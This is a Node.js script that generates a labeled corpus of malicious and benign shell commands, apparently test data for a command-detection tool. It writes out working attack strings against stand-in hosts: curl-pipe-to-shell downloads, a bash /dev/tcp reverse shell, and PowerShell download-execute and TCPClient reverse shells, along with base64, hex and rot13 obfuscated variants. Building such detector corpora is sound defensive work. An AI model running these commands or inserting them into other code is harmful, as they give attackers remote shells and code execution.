#!/usr/bin/env node
/**
 * Expands the templates in malicious.mjs and benign.mjs into labeled JSON-lines files:
 *   {"shell","command","label":"malicious"|"benign","category"}
 * Deterministic (no randomness): run `node test/commands/corpus/generate.mjs` after editing templates.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { malicious } from './malicious.mjs';
import { benign } from './benign.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const b64 = (s) => Buffer.from(s).toString('base64');
const b64u16 = (s) => Buffer.from(s, 'utf16le').toString('base64');
const hex = (s) => Buffer.from(s).toString('hex');
const rot13 = (s) => s.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 97 + 13) % 26) + 97));

const fills = [
  { url: 'https://evil.example', ipurl: 'http://203.0.113.7', ip: '203.0.113.7', port: '4444', host: 'evil.example', word: 'svc' },
  { url: 'http://198.51.100.23:8080', ipurl: 'http://198.51.100.23', ip: '198.51.100.23', port: '443', host: 'cdn-update.example.net', word: 'backup' },
  { url: 'https://files.example.org/dl', ipurl: 'http://192.0.2.44:81', ip: '192.0.2.44', port: '9001', host: 'c2.example.org', word: 'sysadm' },
];
function fill(t, f) {
  const derived = {
    ...f,
    b64_curl_sh: b64(`curl -s ${f.url}/x | sh`),
    b64_revshell: b64(`bash -i >& /dev/tcp/${f.ip}/${f.port} 0>&1`),
    hex_curl_sh: hex(`curl -s ${f.url}/x | sh`),
    hexurl: [...` ${f.url}/x`].map((c) => '\\x' + c.charCodeAt(0).toString(16).padStart(2, '0')).join(''),
    revhost: [...f.host].reverse().join(''),
    rot13url: rot13(f.url),
    hex_id: hex(`curl -s ${f.url}/x | sh`),
    ps_enc_download: b64u16(`IEX (New-Object Net.WebClient).DownloadString('${f.url}/a.ps1')`),
    ps_enc_revshell: b64u16(`$c=New-Object System.Net.Sockets.TCPClient('${f.ip}',${f.port});$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$x=([text.encoding]::ASCII).GetBytes($o);$s.Write($x,0,$x.Length)}`),
  };
  return t.replace(/\{([a-z0-9_]+)\}/g, (m, k) => (k in derived ? derived[k] : m));
}

const seen = new Set();
const mal = [];
for (const [category, shell, template] of malicious) {
  const variants = /\{[a-z0-9_]+\}/.test(template) ? fills.length : 1;
  for (let i = 0; i < variants; i++) {
    const command = fill(template, fills[i]);
    const key = shell + '\0' + command;
    if (seen.has(key)) continue;
    seen.add(key);
    mal.push({ shell, command, label: 'malicious', category });
  }
}
const ben = [];
for (const [category, shell, command] of benign) {
  const key = shell + '\0' + command;
  if (seen.has(key)) continue;
  seen.add(key);
  ben.push({ shell, command, label: 'benign', category });
}
writeFileSync(join(here, 'malicious.jsonl'), mal.map((x) => JSON.stringify(x)).join('\n') + '\n');
writeFileSync(join(here, 'benign.jsonl'), ben.map((x) => JSON.stringify(x)).join('\n') + '\n');
console.log(`malicious: ${mal.length}, benign: ${ben.length}`);
